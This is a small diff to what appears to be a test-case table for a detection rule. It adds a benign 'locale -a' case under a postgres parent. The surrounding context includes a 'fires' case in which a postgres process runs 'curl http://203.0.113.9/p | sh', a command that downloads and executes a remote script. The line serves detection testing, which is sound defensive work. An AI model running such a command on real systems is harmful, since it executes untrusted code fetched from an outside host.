@@ -23,6 +23,7 @@ export const EXECUTION: Cases = {
     fires: [act({ parents: ["postgres", "postgres"] }, sh("curl http://203.0.113.9/p | sh"))],
     quiet: [
       act({ parents: ["postgres"] }, sh("pgbackrest archive-push /var/lib/x")),
+      act({ parents: ["postgres"] }, sh("locale -a")),
       act({ parents: ["mysqld_safe"] }, sh("exec mysqld")),
     ],
   },
